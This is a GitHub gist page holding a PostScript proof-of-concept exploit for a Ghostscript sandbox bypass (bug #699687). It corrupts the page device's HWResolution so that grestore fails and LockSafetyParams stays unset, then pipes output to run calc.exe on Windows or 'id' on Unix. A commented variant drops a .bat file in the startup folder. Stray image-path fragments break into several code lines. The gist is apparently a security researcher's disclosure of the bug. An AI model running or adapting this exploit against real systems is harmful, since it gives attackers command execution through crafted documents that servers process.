Skip to content

Instantly share code, notes, and snippets.

Last active Aug 30, 2018
What would you like to do?
GhostScript Testcase
% This is ghostscript bug #699687 (split out from bug #699654)
% ImageMagick define setpagedevice, just remove their definition. This doesn't
% do anything if not using ImageMagick.
userdict /setpagedevice undef
% function to check if we're on Linux or Windows
/iswindows {
% Just checking if paths contain drive
null (w) .tempfile closefile 1 get 16#3A eq
} def
% just select a papersize to initialize page device
% The bug is that if you can make grestore or restore fail non-fatally,
% LockSafetyParams isn't restored properly. grestore will fail if you set crazy
% properties in your pagedevice, like a nonsense resolution.
% Normally it would be something like [72.0 72.0], but you can't just def
% HWResolution to something else (for example), because it's readonly:
% GS>currentpagedevice wcheck ==
% false
% But you can just put or astore into it, because the array itself is writable:
% GS>currentpagedevice /HWResolution get wcheck ==
% true
% Lets just put some junk in there.
currentpagedevice /HWResolution get 0 (foobar) put% This grestore will fail, stopped just catches the error instead of aborting.
{ grestore } stopped pop
% Now LockSafetyParams will be incorrectly unset, you can check like this:
% GS>mark currentdevice getdeviceprops .dicttomark /.LockSafetyParams get == pop
% false
% We can change and configure devices now, so make sure we're using one with
% a OutputFile property.
(ppmraw) selectdevice
% Check if we're on Windows or UNIX
iswindows {
% This is Windows, gswin32c.exe supports %pipe%, so you can just run calc.exe.
% The graphical version doesn't seem to support %pipe%, but you can create% arbitrary files. If something is using the api (gs32dll.dll), it may or
% may not support %pipe%.
/getstartupdirwindows {
% This figures out startup location from %TEMP% (Tested on Win10)
dup 0 null (w).tempfile closefile 0 18 getinterval putinterval
} def
% (directory) (extension) randfile (result)
/randfile {
% pick a random filename
exch rand 32 string cvs concatstrings exch concatstrings
} def
mark /OutputFile (%pipe%calc.exe) currentdevice putdeviceprops
% if you need to create files, use txtwrite like this:
%mark /OutputFile getstartupdirwindows (.bat) randfile
% { (txtwrite) selectdevice } stopped pop putdeviceprops setdevice
%0 0 moveto
%(REM This is an exploit demo\n) show
%(calc.exe\n) show
} {
% This is UNIX, just run a shell command
mark /OutputFile (%pipe%id) currentdevice putdeviceprops
} ifelse
{ showpage }stopped pop
Sign up for free to join thisconversation on GitHub. Alreadyhave an account? Sign in to comment